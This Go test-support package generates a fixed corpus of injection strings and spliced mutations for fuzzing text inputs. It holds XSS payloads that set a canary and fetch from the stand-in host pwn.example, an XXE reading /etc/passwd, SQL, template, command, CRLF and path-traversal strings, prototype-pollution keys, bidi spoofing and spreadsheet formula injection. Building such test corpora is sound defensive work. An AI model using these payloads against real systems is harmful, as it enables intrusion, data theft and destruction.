// Package injection makes text and addresses that would do harm if they were
// ever taken for anything but text: mark-up, scripts, styles, templates,
// addresses that run, letters that turn the line around, keys of objects,
// formulas. The tests put them wherever text comes in. Each that runs as a
// script sets Canary, and each that fetches asks Host. It must never be linked
// into a program.
package injection

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// Canary is the property of a window that a script of these texts sets.
const Canary = "__pwn"

// Host is what the texts that fetch would ask.
const Host = "pwn.example"

// run is the script.
const run = "window.__pwn=1"

// Count is how many Texts there are.
const Count = 200

// Texts are always the same Count texts, each another.
func Texts() []string {
	var list []string
	for _, kind := range [][]string{handlers(), elements(), breakouts(), addresses(), templates(), encoded(), letters(), keys(), tables()} {
		list = append(list, kind...)
	}
	return list
}

// Mutated are Count texts spliced from Texts by a seed.
func Mutated(seed uint64) []string {
	r := rand.New(rand.NewPCG(seed, 7))
	all := Texts()
	var list []string
	for len(list) < Count {
		list = append(list, splice(r, all))
	}
	return list
}

// glue stands between two pieces of texts.
var glue = []string{"", `"`, `'`, ">", "<", "/", " ", "`", "-->", "]]>", "\x00", "\u202e", "</title>", "&#x3e;", "\\", "\n"}

// splice puts two or three pieces of texts together.
func splice(r *rand.Rand, all []string) string {
	var b strings.Builder
	for range 2 + r.IntN(2) {
		runes := []rune(all[r.IntN(len(all))])
		piece := runes[r.IntN(len(runes)/2+1):]
		b.WriteString(string(piece[:(len(piece)+1)/2+r.IntN(len(piece)/2+1)]))
		b.WriteString(glue[r.IntN(len(glue))])
	}
	return b.String()
}

// handlers are elements that run a script by themselves, each by another event.
func handlers() []string {
	var list []string
	for _, h := range []string{
		"img src=x onerror", "img src=data:, onerror", "svg onload", "svg/onload", "body onload", "body onpageshow", "video src=x onerror", "video onloadstart src=x",
		"audio src=x onerror", "input autofocus onfocus", "textarea autofocus onfocus", "select autofocus onfocus", "button autofocus onfocus", "a href=# autofocus onfocus",
		"details open ontoggle", "marquee onstart", "object data=x onerror", "embed src=x onerror", "iframe onload", "link rel=stylesheet href=x onerror",
		"style onload", "script src=x onerror", "video><source onerror", "picture><img src=x onerror", "x tabindex=1 autofocus onfocus", "x style=animation-name:x onanimationstart",
		"svg><animate onbegin", "svg><set attributename=x onbegin", "svg><image href=x onerror", "math><x onfocus", "dialog open onclose", "x contenteditable autofocus onfocus",
		"frameset onload", "table background=x onload", "meter onmouseover", "p onpointerenter", "x popover onbeforetoggle", "x onscrollend", "form onsubmit", "x oncontentvisibilityautostatechange style=content-visibility:auto",
	} {
		list = append(list, "<"+h+"="+run+">")
	}
	return list
}

// elements make or fetch something without an event.
func elements() []string {
	return []string{
		"<script>" + run + "</script>", "<SCRIPT>" + run + "</SCRIPT >", "<script\n>" + run + "</script\n>", "<script/x>" + run + "</script/x>",
		"<script type=module>" + run + "</script>", "<svg><script>" + run + "</script></svg>", "<svg><script href=data:," + run + " />", "<math><script>" + run + "</script>",
		"<script src=https://" + Host + "/1.js></script>", "<img src=https://" + Host + "/2.png>", "<img srcset='https://" + Host + "/3.png 1x'>", "<image src=//" + Host + "/4.png>",
		"<link rel=stylesheet href=https://" + Host + "/5.css>", "<link rel=prefetch href=//" + Host + "/6>", "<link rel=dns-prefetch href=//" + Host + ">", "<link rel=manifest href=//" + Host + "/7>",
		"<style>@import 'https://" + Host + "/8.css';</style>", "<style>*{background:url(//" + Host + "/9)}</style>", "<p style='background:url(//" + Host + "/10)'>", "<body background=//" + Host + "/11>",
		"<iframe src=https://" + Host + "/12></iframe>", "<iframe srcdoc='<script>parent." + run + "</script>'></iframe>", "<iframe src=javascript:parent." + run + "></iframe>", "<object data=javascript:" + run + "></object>",
		"<embed src=javascript:" + run + ">", "<base href=https://" + Host + "/>", "<meta http-equiv=refresh content='0;url=https://" + Host + "/13'>", "<meta http-equiv=refresh content=0;javascript:" + run + ">",
		"<form action=https://" + Host + "/14><input name=a><button>Save</button></form>", "<form action=javascript:" + run + "><button>Save</button>", "<button formaction=javascript:" + run + ">x", "<input type=image src=//" + Host + "/15>",
		"<audio autoplay src=https://" + Host + "/16></audio>", "<video poster=//" + Host + "/17></video>", "<svg><image href=https://" + Host + "/18 /></svg>", "<svg><use href=data:image/svg+xml,<svg/onload=" + run + "> /></svg>",
		"<template><img src=x onerror=" + run + "></template>", "<div><template shadowrootmode=open><script>" + run + "</script></template></div>", "<noscript><img src=x onerror=" + run + "></noscript>", "<plaintext>", "<xmp><img src=x onerror=" + run + "></xmp>",
		"<portal src=//" + Host + "/19>", "<a href=javascript:" + run + ">press</a>", "<a ping=https://" + Host + "/20 href=/>press</a>", "<area href=javascript:" + run + ">", "<isindex action=javascript:" + run + ">",
		"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", "<?xml-stylesheet href=javascript:" + run + " ?>", "<?php echo 1 ?>", "<![CDATA[<script>" + run + "</script>]]>",
	}
}

// breakouts end what a text may stand in.
func breakouts() []string {
	return []string{
		`">`, `'>`, "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", `" onmouseover=` + run + ` x="`, `' onfocus=` + run + ` autofocus x='`,
		"` onerror=" + run + " `", `\"};` + run + `;//`, "</template>", "</bdi></a></p></article>", "</option></select>", "</blockquote>", "<!--", "</svg>", "*/", `");` + run + `;("`,
	}
}

// addresses run or read something when they are followed.
func addresses() []string {
	return []string{
		"javascript:" + run, "JaVaScRiPt:" + run, "java\tscript:" + run, "\x01javascript:" + run, "javascript://%0a" + run, "javascript:/*https://*/" + run, "data:text/html,<script>" + run + "</script>",
		"data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd249MTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "blob:https://" + Host + "/1", "filesystem:https://" + Host + "/1", "view-source:javascript:" + run,
		"file:///etc/passwd", "about:blank#<script>" + run + "</script>", "chrome://settings/", "moz-extension://x/", "//" + Host + "/21", `\\` + Host + `\22`, "https://" + Host + "/23", "http://" + Host + "@a.example/",
	}
}

// templates are of the languages that put text into text.
func templates() []string {
	return []string{
		"{{constructor.constructor('" + run + "')()}}", "${" + run + "}", "<%= " + run + " %>", "#{" + run + "}", "{{.Secret}}", `{{define "x"}}{{end}}`, "[[${7*7}]]", "{% raw %}",
		"%s%n%x", "$&$1$`$'", "(?:a+)+$", "a' OR '1'='1", "'; DROP TABLE bookmarks; --", "$(touch x)", "`id`", "../../../../etc/passwd", "CON", "%00", "a\r\nSet-Cookie: x=1", "|| true",
	}
}

// encoded are mark-up for whoever decodes once too often.
func encoded() []string {
	return []string{
		"&lt;img src=x onerror=" + run + "&gt;", "&#60;img src=x onerror=" + run + "&#62;", "&#x3c;script&#x3e;" + run + "&#x3c;/script&#x3e;", "%3Cscript%3E" + run + "%3C/script%3E",
		`\u003cscript\u003e` + run + `\u003c/script\u003e`, `\x3cscript\x3e` + run, "+ADw-script+AD4-" + run + "+ADw-/script+AD4-", "＜script＞" + run + "＜/script＞", "&amp;lt;script&amp;gt;", "<scr\x00ipt>" + run + "</scr\x00ipt>",
	}
}

// letters turn, hide or break the line they stand in.
func letters() []string {
	return []string{
		"\u202egnp.exe", "\u2066\u202eabc\u2069", "a\u2067b", "\u200e\u200f\u061c", "\u200b\u200c\u200d\ufeff\u2060", "\u2028\u2029", "a\x00b", "a\x1b[31mb", "\u0007\u0008\u007f\u0085\u009b", "\ufffd\ufffe",
		"а\u0440\u0440le", "Z" + strings.Repeat("\u0301", 60), "\U000e0041\U000e007f", "👩\u200d👩\u200d👧", "\U0010ffff", strings.Repeat("ﷺ", 20), "ß\u0130ıſK", "العربية English", "\u3164", "​",
	}
}

// keys are those that every object of JavaScript has.
func keys() []string {
	return []string{"__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "__defineGetter__", `{"__proto__":{"pwned":1}}`, `","pwned":"1`, `]}`}
}

// tables are formulas and what ends a cell.
func tables() []string {
	return []string{`=HYPERLINK("https://` + Host + `/24","x")`, "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "＝1+1", `"",""`, `"` + "\n" + `=1`, fmt.Sprint(";", run)}
}
